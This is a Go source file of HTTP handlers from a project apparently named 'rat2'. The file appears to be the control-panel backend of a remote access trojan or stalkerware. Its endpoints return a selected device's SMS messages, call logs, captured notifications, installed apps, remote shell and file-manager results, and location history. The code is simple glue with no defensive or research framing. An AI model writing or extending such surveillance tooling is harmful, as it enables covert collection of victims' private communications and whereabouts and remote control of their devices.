package handlers

import (
	"net/http"

	"github.com/MRSt3Ss/rat2/internal/service"

	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
)

// HistoryHandler serves bounded history queries for the selected device.
// With no device selected every endpoint returns an empty list.
type HistoryHandler struct {
	service service.Service
	log     *logrus.Logger
}

// NewHistoryHandler creates a new HistoryHandler instance
func NewHistoryHandler(svc service.Service, log *logrus.Logger) *HistoryHandler {
	return &HistoryHandler{
		service: svc,
		log:     log,
	}
}

// SMSLogs returns the most recent SMS records.
func (h *HistoryHandler) SMSLogs(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.SMSLogs(c.Request.Context()))
}

// CallLogs returns the most recent call records.
func (h *HistoryHandler) CallLogs(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.CallLogs(c.Request.Context()))
}

// Notifications returns the most recent captured notifications.
func (h *HistoryHandler) Notifications(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.Notifications(c.Request.Context()))
}

// Apps returns the installed application list from the latest report.
func (h *HistoryHandler) Apps(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.InstalledApps(c.Request.Context()))
}

// ShellResults returns the combined shell and file-manager results.
func (h *HistoryHandler) ShellResults(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.ShellResults(c.Request.Context()))
}

// FileManagerResults returns the most recent file-manager listings.
func (h *HistoryHandler) FileManagerResults(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.FileManagerResults(c.Request.Context()))
}

// Locations returns the most recent location fixes.
func (h *HistoryHandler) Locations(c *gin.Context) {
	c.JSON(http.StatusOK, h.service.Locations(c.Request.Context()))
}
